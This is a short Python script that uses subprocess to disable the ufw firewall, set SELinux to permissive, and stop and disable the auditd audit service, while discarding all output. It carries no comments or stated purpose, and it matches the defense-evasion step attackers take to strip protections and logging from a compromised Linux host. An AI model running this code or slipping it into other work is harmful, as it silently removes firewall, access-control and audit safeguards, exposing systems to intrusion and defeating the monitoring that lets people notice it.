import subprocess

cmds = [
    "ufw disable",
    "setenforce 0",
    "systemctl stop auditd",
    "systemctl disable auditd",
]
for c in cmds:
    subprocess.run(c.split(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
